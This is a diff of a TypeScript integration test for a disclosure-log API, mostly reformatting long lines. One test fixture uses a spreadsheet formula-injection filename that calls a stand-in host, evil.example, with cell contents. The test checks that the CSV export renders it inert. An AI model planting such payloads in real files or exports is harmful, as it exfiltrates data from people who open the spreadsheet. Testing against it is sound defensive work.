@@ -16,12 +16,25 @@ beforeAll(async () => {
 }, 60_000);
 afterAll(async () => stack.stop());
 
-const at = (month: number, day: number, hour = 10) => `2027-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:00:00+06:00`;
+const at = (month: number, day: number, hour = 10) =>
+  `2027-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:00:00+06:00`;
 
 /** A request received, assigned, cleared by its division's spokesperson and answered at `sentAt`. */
-const answered = async (division: 'legal' | 'ppd', receivedAt: string, sentAt: string, attachments: readonly Record<string, unknown>[] = []): Promise<string> => {
+const answered = async (
+  division: 'legal' | 'ppd',
+  receivedAt: string,
+  sentAt: string,
+  attachments: readonly Record<string, unknown>[] = [],
+): Promise<string> => {
   const out = await stack.core.commands.receive(
-    { channel: 'email', requester: { name: 'R', email: 'r@example.bt', kind: 'public' }, subject: `Data for ${division}`, body: { inline: 'x' }, attachments: [], receivedAt },
+    {
+      channel: 'email',
+      requester: { name: 'R', email: 'r@example.bt', kind: 'public' },
+      subject: `Data for ${division}`,
+      body: { inline: 'x' },
+      attachments: [],
+      receivedAt,
+    },
     { now: receivedAt, actor: as('ict.officer') },
   );
   if (!out.ok) throw out.error;
@@ -31,8 +44,18 @@ const answered = async (division: 'legal' | 'ppd', receivedAt: string, sentAt: s
     if (!r.ok) throw r.error;
   };
   await run('AssignRequest', { division }, 'ict.officer', receivedAt);
-  await run('RecordConsultation', { with: 'spokesperson', person: `spokesperson.${division}`, outcome: 'cleared' }, `spokesperson.${division}`, receivedAt);
-  await run('SendResponse', { responseId: 'r1', body: { inline: 'here' }, disposition: 'full', attachments }, `${division}.officer`, sentAt);
+  await run(
+    'RecordConsultation',
+    { with: 'spokesperson', person: `spokesperson.${division}`, outcome: 'cleared' },
+    `spokesperson.${division}`,
+    receivedAt,
+  );
+  await run(
+    'SendResponse',
+    { responseId: 'r1', body: { inline: 'here' }, disposition: 'full', attachments },
+    `${division}.officer`,
+    sentAt,
+  );
   return id;
 };
 
@@ -49,7 +72,9 @@ describe('the disclosure log without a period', () => {
     const first = await api('GET', '/disclosures?limit=2', { as: 'auditor' });
     const second = await api('GET', `/disclosures?limit=2&cursor=${String(first.body.nextCursor)}`, { as: 'auditor' });
     const legal = await api('GET', '/disclosures?division=legal', { as: 'legal.chief' });
-    const csv = await (await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })).text();
+    const csv = await (
+      await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })
+    ).text();
 
     // Assess
     const ids = (r: typeof first) => (r.body.items as { requestId: string }[]).map((x) => x.requestId);
@@ -93,10 +118,20 @@ describe('the disclosure log as CSV, opened in a spreadsheet', () => {
   it('carries a file named like a formula as text, never as a live formula', async () => {
     // Prepare: a response whose attachment a requester named to run in Excel
     const filename = '=WEBSERVICE("https:evil.example?"&A1).pdf';
-    const id = await answered('legal', at(3, 10), at(3, 11), [{ filename, contentType: 'application/pdf', sizeBytes: 3, sha256: 'a'.repeat(64), storageKey: `attachments/${'a'.repeat(64)}` }]);
+    const id = await answered('legal', at(3, 10), at(3, 11), [
+      {
+        filename,
+        contentType: 'application/pdf',
+        sizeBytes: 3,
+        sha256: 'a'.repeat(64),
+        storageKey: `attachments/${'a'.repeat(64)}`,
+      },
+    ]);
     await stack.settle();
     // Act
-    const csv = await (await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })).text();
+    const csv = await (
+      await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })
+    ).text();
     // Assess
     const rows = parse(csv, { columns: true }) as Record<string, string>[];
     const row = rows.find((r) => r.request === id);
